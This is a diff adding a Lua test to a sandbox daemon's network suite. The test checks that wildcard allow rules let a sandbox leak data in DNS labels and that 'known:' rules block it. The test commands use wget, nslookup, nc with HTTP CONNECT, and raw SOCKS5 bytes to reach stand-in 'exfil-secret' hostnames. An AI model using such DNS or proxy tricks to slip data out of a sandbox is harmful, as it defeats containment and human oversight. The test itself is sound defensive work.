@@ -108,7 +108,7 @@ describe("network", function()
     end)
     local hosts = dir .. "/hosts"
     local f = assert(io.open(hosts, "w"))
-    f:write("127.0.0.1 allowed.test denied.test tls.test rebind.test\n169.254.169.254 meta.test\n")
+    f:write("127.0.0.1 allowed.test denied.test tls.test rebind.test www.allowed.test\n169.254.169.254 meta.test\n")
     f:close()
     -- this environment, plus the name map and the fake upstream
     local env = {}
@@ -296,6 +296,39 @@ for _ in range(2):
     r = run(sb, "wget -q -O- http://upstream.test:" .. hp .. "/index.html")
     assert.equal("hello-net\n", r.stdout)
     assert.same({ "upstream.test" }, queries)
+  end)
+
+  it("forwards a name the box made up below a wildcard, and below a known: wildcard never", function()
+    -- a plain wildcard: the box's name is looked up upstream at connect
+    -- (docs/network.md says so): data in a label leaves the host
+    -- (the address rule: the test servers are on the host's loopback)
+    local wild = create({ allow = { "*.allowed.test:" .. hp, "127.0.0.1/32:" .. hp } })
+    queries = {}
+    run(wild, "wget -q -O- http://exfil-secret1.allowed.test:" .. hp .. "/index.html")
+    assert.same({ "exfil-secret1.allowed.test" }, queries)
+    h.call(c, "sandbox.kill", { id = wild })
+    -- known: names come from the daemon's hosts file alone
+    local known = create({ allow = { "known:*.allowed.test:" .. hp, "127.0.0.1/32:" .. hp } })
+    queries = {}
+    local r = run(known, "wget -q -O- http://www.allowed.test:" .. hp .. "/index.html")
+    assert.equal("hello-net\n", r.stdout, r.stderr)
+    r = run(known, "nslookup www.allowed.test 127.0.0.1; nslookup exfil-secret2.allowed.test 127.0.0.1")
+    assert.matches("Address: 198%.18%.%d+%.%d+", r.stdout)
+    assert.matches("can't find exfil-secret2.allowed.test: NXDOMAIN", r.stdout, 1, true)
+    r = run(known, "printf 'CONNECT exfil-secret3.allowed.test:" .. hp .. " HTTP/1.1\\r\\n\\r\\n' | nc -w 5 127.0.0.1 3128")
+    assert.matches("^HTTP/1.1 403 Forbidden", r.stdout)
+    assert.matches("never looked up upstream", r.stdout, 1, true)
+    r = run(known, "wget -q -O- http://exfil-secret4.allowed.test:" .. hp .. "/index.html")
+    assert.not_equal(0, r.exit_code)
+    r = run(known, ("printf '\\005\\001\\000\\005\\001\\000\\003\\032exfil-secret5.allowed.test\\%03o\\%03o' | nc -w 5 127.0.0.1 1080 | od -An -tx1")
+      :format(hp >> 8, hp & 255))
+    assert.matches("05 00 05 0[24]", r.stdout)
+    assert.same({}, queries, "no query of a known: rule's name reached the upstream")
+    assert.truthy(logged(known, "^deny dns exfil%-secret2"))
+    -- known: is for names only
+    local _, err = h.call(c, "sandbox.create", { network = { allow = { "known:10.0.0.1" } } })
+    assert.matches("'known:' takes a name rule", err.message, 1, true)
+    h.call(c, "sandbox.kill", { id = known })
   end)
 
   it("applies a live rule update to the next connection", function()
